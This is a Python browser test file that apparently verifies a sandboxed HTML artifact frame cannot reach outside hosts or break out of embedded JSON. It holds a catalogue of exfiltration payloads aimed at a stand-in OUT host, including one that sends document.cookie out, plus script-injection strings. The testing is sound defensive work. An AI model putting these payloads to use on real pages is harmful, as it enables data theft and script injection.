"""A hostile artifact in a real browser: whatever it tries, it reaches nobody and learns nothing.

Every attempt is made twice: by an artifact in the frame of our page, and by the same page in a plain
frame of a plain server.  What arrives from the second shows that the attempt is one; by the time all
of that has arrived, nothing has from the first.
"""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from textwrap import dedent

import pytest
from flask import Flask, get_template_attribute
from markupsafe import Markup
from playwright.sync_api import Browser, Page, sync_playwright

from covalt_git.json_values import canonical_json
from covalt_git.models.calls import FileReference, RenderPlan
from covalt_git.render.inject_data import inject
from covalt_server.render.artifacts import ARTIFACT_HEADERS, artifact_page
from tests.api_client import Api, make_project
from tests.browser import launched
from tests.live_server import live
from tests.server.outside import Outside

SHARED = Path(__file__).resolve().parents[3] / ".." / "shared"
STRINGS = SHARED / "data" / "security" / "json-in-script-strings.json"
HTML = {"Content-Type": "text/html; charset=utf-8"}
TIMEOUT_S = 20.0
LOADER = """<!doctype html><head></head><body><script>
const name = location.hash.slice(1);
document.write(window.__TOOL_DATA__[name]);
parent.postMessage(name, "*");
</script></body>"""
LISTENER = """if (window === top) {
  window.tried = [];
  addEventListener("message", (event) => tried.push(event.data));
}"""

# OUT is an address outside, with the attempt's name; API is one of our own server.
ATTEMPTS = {
    "fetch": "<script>fetch('OUT').catch(() => 0)</script>",
    "fetch-api": "<script>fetch('API', {credentials: 'include'}).catch(() => 0)</script>",
    "post-api": "<script>fetch('API', {method: 'POST', mode: 'no-cors', credentials: 'include'}).catch(() => 0)</script>",
    "keepalive": "<script>fetch('OUT', {method: 'POST', mode: 'no-cors', keepalive: true}).catch(() => 0)</script>",
    "fetch-later": "<script>window.fetchLater ? fetchLater('OUT', {activateAfter: 0}) : fetch('OUT')</script>",
    "xhr": "<script>const x = new XMLHttpRequest(); x.open('GET', 'OUT'); x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('OUT', 'x')</script>",
    "websocket": "<script>new WebSocket('OUT'.replace('http', 'ws'))</script>",
    "event-source": "<script>new EventSource('OUT')</script>",
    "image": "<img src='OUT'>",
    "image-api": "<script>new Image().src = 'API'</script>",
    "image-set": "<picture><source srcset='OUT'><img></picture>",
    "svg-image": "<svg><image href='OUT' width='9' height='9'/></svg>",
    "svg-filter": "<svg><filter id='f'><feImage href='OUT'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    "background": "<table background='OUT'><tr><td>x</table>",
    "input-image": "<input type='image' src='OUT'>",
    "poster": "<video poster='OUT'></video>",
    "audio": "<audio src='OUT' autoplay></audio>",
    "script": "<script src='OUT'></script>",
    "module": "<script type='module'>import 'OUT'</script>",
    "import": "<script>import('OUT').catch(() => 0)</script>",
    "stylesheet": "<link rel='stylesheet' href='OUT'>",
    "css-import": "<style>@import 'OUT';</style>",
    "css-image": "<style>p { background: url(OUT) }</style><p>x</p>",
    "font": "<style>@font-face { font-family: x; src: url(OUT) } p { font-family: x }</style><p>x</p>",
    "prefetch": "<link rel='prefetch' href='OUT'>",
    "preload": "<link rel='preload' as='script' href='OUT'>",
    "module-preload": "<link rel='modulepreload' href='OUT'>",
    "worklet": "<script>CSS.paintWorklet.addModule('OUT').catch(() => 0)</script>",
    "worker-of-blob": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('OUT')\"])))</script>",
    "worker-of-data": "<script>new Worker('data:text/javascript,fetch(\"OUT\")')</script>",
    "shared-worker": "<script>new SharedWorker('API')</script>",
    "service-worker": "<script>navigator.serviceWorker.register('API').catch(() => 0)</script>",
    "frame": "<iframe src='OUT'></iframe>",
    "frame-api": "<iframe src='API'></iframe>",
    "frame-in-text": "<iframe srcdoc=\"<img src='OUT'>\"></iframe>",
    "frame-of-data": "<iframe src=\"data:text/html,<img src='OUT'>\"></iframe>",
    "frame-of-blob": "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\"<img src='OUT'>\"], {type: 'text/html'})); document.body.append(f)</script>",
    "object": "<object data='OUT'></object>",
    "embed": "<embed src='OUT'>",
    "form": "<form id='f' method='post' action='OUT'></form><script>f.submit()</script>",
    "form-api": "<form id='f' method='post' action='API'></form><script>f.submit()</script>",
    "form-click": "<form method='post' action='OUT' target='_blank'><button id='go'>go</button></form>",
    "base": "<base href='OUT/'><img src='x'>",
    "location": "<script>location = 'OUT'</script>",
    "location-api": "<script>location = 'API'</script>",
    "location-of-blob": "<script>location = URL.createObjectURL(new Blob([\"<img src='OUT'>\"], {type: 'text/html'}))</script>",
    "location-of-script": "<script>location = \"javascript:'<img src=OUT>'\"</script>",
    "window-name": "<script>window.name = 'x'; location.replace('OUT')</script>",
    "refresh": "<meta http-equiv='refresh' content='0;url=OUT'>",
    "refresh-api": "<meta http-equiv='refresh' content='0;url=API'>",
    "link": "<a id='go' href='OUT'>go</a>",
    "link-ping": "<a id='go' ping='OUT' href='#here'>go</a>",
    "link-new-window": "<a id='go' target='_blank' href='OUT'>go</a>",
    "download": "<a id='go' download='x' href='OUT'>go</a>",
    "open": "<button id='go' onclick=\"window.open('OUT')\">go</button>",
    "history": "<script>history.pushState({}, '', 'API'); location.reload()</script>",
    "parent-frame": "<script>parent.frames[parent.frames.length - 1].location = 'OUT'</script>",
    "parent-page": "<script>parent.document.body.dataset.owned = 'yes'; new Image().src = 'OUT'</script>",
    "cookie": "<script>new Image().src = 'OUT?' + document.cookie</script>",
    "cookie-set": "<script>document.cookie = 'x=1'; new Image().src = 'OUT'</script>",
    "local-storage": "<script>localStorage.x = 1; new Image().src = 'OUT'</script>",
    "database": "<script>indexedDB.open('x').onsuccess = () => { new Image().src = 'OUT' }</script>",
    "credentials": "<script>navigator.credentials.get({identity: {providers: [{configURL: 'OUT', clientId: '1'}]}}).catch(() => 0)</script>",
    "payment": "<script>new PaymentRequest([{supportedMethods: 'OUT'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()</script>",
    "webrtc": "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</script>",
    # Not in a frame within it: Chromium 156 ends that frame's process, and the driver with it.
    "link-top": "<a id='go' target='_top' href='OUT'>go</a>",
    "form-top": "<form action='OUT' target='_top'><button id='go'>go</button></form>",
    "top": "<script>top.location = 'OUT'</script>",
}
ALONE = {"fetch-later", "link-top", "form-top", "top"}
"""What a plain page does only once, or not at all beside others."""
ONLY_BY_ALLOWLIST = {"location-api", "refresh-api", "history", "webrtc"}
"""What only Connection-Allowlist stops, which Chromium has since version 152."""
FIRST_WITH_ALLOWLIST = 152


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with a tool that shows any page with any data."""
    root = make_project(tmp_path_factory.mktemp("hostile") / "project")
    tools = root / "toolsets" / "probe" / "tools"
    tools.mkdir(parents=True)
    (tools / "probe.py").write_text(
        "def show(page: str, given: object) -> object:\n    return given\n"
    )
    (tools.parent / "toolset.yaml").write_text(
        dedent("""\
            id: probe
            name: Probe
            version: "1"
            tools:
              - id: show
                entrypoint: tools.probe:show
                input_schema: {type: object, properties: {page: {type: string}, given: {}}}
            tool_overrides:
              - tool_id: show
                renderer: html
                renderer_config: {content: "$args.page", data: "$return"}
            """)
    )
    Api.of(root).post("create_chat", chat_id="c1")
    return root


def show(root: Path, page: str, given: object) -> str:
    """Return the id of a call that shows a page with its data."""
    call = Api.of(root).call("probe:show", page=page, given=given)
    assert call["status"] == "success", call["error"]
    return str(call["id"])


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """Chromium with all that people have in theirs, where there is more to try."""
    with sync_playwright() as driver, launched(driver, whole=True) as browser:
        yield browser


@contextmanager
def opened(chromium: Browser, *urls: str) -> Iterator[Page]:
    """Open pages one after another in a window of their own, high enough for all of their frames."""
    context = chromium.new_context(viewport={"width": 1280, "height": 5000})
    context.add_init_script(LISTENER)
    try:
        page = context.new_page()
        for url in urls:
            page.goto(url, wait_until="commit")
        yield page
    finally:
        context.close()


def until(there: Callable[[], bool]) -> bool:
    """Wait until it is there; tell whether it came."""
    end = time.monotonic() + TIMEOUT_S
    while not there():
        if time.monotonic() > end:
            return False
        time.sleep(0.02)
    return True


# --- what it may try ------------------------------------------------------------------------------


def attempts(out: Outside, own: str) -> dict[str, str]:
    """Return the markup of every attempt against two servers."""
    return {
        name: markup.replace("OUT", f"{out.url}/attempt/{name}")
        .replace("API", f"{own}/api/list_toolsets?attempt={name}")
        .replace("STUN", out.stun)
        for name, markup in ATTEMPTS.items()
    }


def arrived(*servers: Outside) -> set[str]:
    """Return the names of the attempts that reached one of the servers."""
    paths = [one.path for server in servers for one in server.requests]
    names = {found[1] for path in paths if (found := re.search(r"attempt[/=]([a-z-]+)", path))}
    if any(server.datagrams for server in servers):
        names.add("webrtc")
    return names


def click(page: Page, names: list[str]) -> None:
    """Click in the frames of the attempts that need it."""
    for name in names:
        if "id='go'" in ATTEMPTS[name]:
            frame = page.frame_locator(f'iframe[src$="#{name}"]')
            frame.locator("#go").click(no_wait_after=True)


def with_frames(app: Flask) -> None:
    """Add a page of ours with many frames of one artifact, one for each attempt."""

    @app.get("/frames/<call_id>/<names>")
    def frames(call_id: str, names: str) -> str:
        frame = get_template_attribute("_artifact.html", "artifact")
        one = str(frame("c1", call_id, "hostile"))
        many = (one.replace(f"/{call_id}", f"/{call_id}#{name}") for name in names.split(","))
        return Markup("<!doctype html><body>") + Markup("").join(map(Markup, many))


def test_an_artifact_reaches_nobody_whatever_it_tries(project: Path, chromium: Browser) -> None:
    names = list(ATTEMPTS)
    if int(chromium.version.partition(".")[0]) < FIRST_WITH_ALLOWLIST:
        names = [name for name in names if name not in ONLY_BY_ALLOWLIST]

    with Outside() as outside, live(project, prepare=with_frames) as own:
        call_id = show(project, LOADER, attempts(outside, own.url))
        ours = f"{own.url}/frames/{call_id}/{','.join(names)}"
        with opened(chromium, own.door, ours) as page:
            noticed: list[str] = []

            def notice(one: object) -> None:
                noticed.append(type(one).__name__)

            page.on("dialog", notice)
            page.on("download", notice)
            page.wait_for_function("count => tried.length === count", arg=len(names))
            click(page, names)
            reach_by_a_plain_page(chromium, names)

            assert arrived(outside) == set()
            assert (outside.requests, outside.datagrams) == ([], 0)
            expected = re.compile(rf"/artifacts/c1/{call_id}|/(static/|frames/|favicon|\?token|$)")
            assert [path for path in own.paths if not expected.match(path)] == []
            assert page.url == ours
            assert page.evaluate("document.body.dataset.owned") is None
            assert page.context.pages == [page]
            assert noticed == []
            assert [one["name"] for one in page.context.cookies()] == [f"covalt_git_{own.port}"]


def reach_by_a_plain_page(chromium: Browser, names: list[str]) -> None:
    """Make sure that every attempt arrives where nothing stops it."""
    with Outside() as outside, Outside() as own:
        own.pages["/page"] = (HTML, inject(LOADER.encode(), attempts(outside, own.url)))

        def reach(group: list[str]) -> None:
            frames = "".join(f'<iframe src="/page#{name}"></iframe>' for name in group)
            around = f"<!doctype html><body>{frames}<iframe></iframe>".encode()
            own.pages["/"] = (HTML | {"Set-Cookie": "token=secret"}, around)
            with opened(chromium, own.url) as page:
                click(page, group)
                assert until(lambda: arrived(outside, own) >= set(group)), set(group) - arrived(
                    outside, own
                )

        reach([name for name in names if name not in ALONE])
        for name in ALONE & set(names):
            reach([name])
        assert any("token=secret" in one.path for one in outside.requests)


def test_an_artifact_does_not_turn_our_page_back(project: Path, chromium: Browser) -> None:
    back = "<script>setTimeout(() => { history.back(); parent.postMessage(1, '*') }, 100)</script>"
    with live(project) as own, Outside() as plain:
        call_id = show(project, back, None)
        ours = f"{own.url}/chats/c1/calls/{call_id}"
        plain.pages["/first"] = (HTML, b"first")
        plain.pages["/page"] = (HTML, back.encode())
        plain.pages["/second"] = (HTML, b"<!doctype html><iframe src='/page'></iframe>")

        with opened(chromium, own.door, f"{own.url}/chats", ours) as page:
            page.wait_for_function("() => tried.length === 1")
            with opened(chromium, f"{plain.url}/first", f"{plain.url}/second") as other:
                other.wait_for_url("**/first")

            assert page.url == ours


# --- what it is given -----------------------------------------------------------------------------

DANGEROUS = [
    "</script><script>window.injected = 1</script>",
    "</SCRIPT ><script>window.injected = 1</script>",
    "</script\f><img src=x onerror='window.injected = 1'>",
    "<!--<script>",
    "<!--",
    "--!>",
    "]]></script>",
    "</head><body onload='window.injected = 1'>",
    "$&$'$`$1\\1\\g<0>",
    "\u2028window.injected = 1\u2029",
    '";window.injected = 1;//',
    '\\";window.injected = 1;//',
    "`${window.injected = 1}`",
    "\x00</script\x00><script>window.injected = 1</script>",
    "&lt;/script&gt;&quot;\\u003c/script\\u003e",
    "</\u017fcript><\u017fcript>",
]
STRINGS_OF_OTHERS: list[str] = json.loads(STRINGS.read_text("utf-8")) if STRINGS.exists() else []


def units(text: str) -> list[int]:
    """Return what JavaScript's charCodeAt() returns for every place of a text."""
    encoded = text.encode("utf-16-le", "surrogatepass")
    return [one | two << 8 for one, two in zip(encoded[::2], encoded[1::2], strict=True)]


@pytest.mark.skipif(not STRINGS_OF_OTHERS, reason="../shared is not on this machine")
def test_every_string_of_the_collection_arrives_as_it_is(project: Path, chromium: Browser) -> None:
    collected = [text for text in [*STRINGS_OF_OTHERS, "$&", *DANGEROUS] if storable(text)]
    given = {"strings": collected, "units": [units(text) for text in collected]}
    page = """<!doctype html><html><head><title>t</title></head><body><p id="told"></p><script>
        const { strings, units } = window.__TOOL_DATA__;
        const same = (text, want) =>
          text.length === want.length && want.every((unit, at) => text.charCodeAt(at) === unit);
        const wrong = strings.filter((text, at) => !same(text, units[at]));
        told.textContent = `${strings.length} strings, wrong: ${JSON.stringify(wrong)}`;
        </script></body></html>"""
    assert len(collected) > len(STRINGS_OF_OTHERS)

    with live(project) as own:
        call_id = show(project, page, given)
        with opened(chromium, own.door, f"{own.url}/chats/c1/calls/{call_id}") as shown:
            told = shown.frame_locator("iframe.artifact").locator("#told:not(:empty)")

            assert told.inner_text() == f"{len(collected)} strings, wrong: []"


def storable(text: str) -> bool:
    """Tell whether a call can hold a text at all: half a character it cannot."""
    try:
        canonical_json.dumps(text)
    except canonical_json.NotJsonError:
        return False
    return True


def test_no_string_takes_a_page_apart(chromium: Browser) -> None:
    page = """<!doctype html><html><head><title>t</title></head><body><p>one</p><script>
        const text = window.__TOOL_DATA__.text;
        parent.postMessage([location.pathname, [...Array(text.length).keys()].map((at) =>
          text.charCodeAt(at)), document.body.children.length, "injected" in window], "*");
        </script></body></html>"""
    with Outside() as server:
        for number, text in enumerate(DANGEROUS):
            plan = RenderPlan(renderer="html", config={"content": page, "data": {"text": text}})
            made = artifact_page(plan, no_record)
            server.pages[f"/{number}"] = (HTML | ARTIFACT_HEADERS, made)
        frames = "".join(
            f'<iframe sandbox="allow-scripts" src="/{number}"></iframe>'
            for number in range(len(DANGEROUS))
        )
        server.pages["/"] = (HTML, f"<!doctype html>{frames}".encode())
        with opened(chromium, server.url) as around:
            around.wait_for_function("count => tried.length === count", arg=len(DANGEROUS))
            told = {one[0]: one[1:] for one in around.evaluate("tried")}

    for number, text in enumerate(DANGEROUS):
        assert told[f"/{number}"] == [units(text), 2, False], text


def no_record(_: FileReference) -> bytes:
    raise AssertionError("the page stands in the plan")
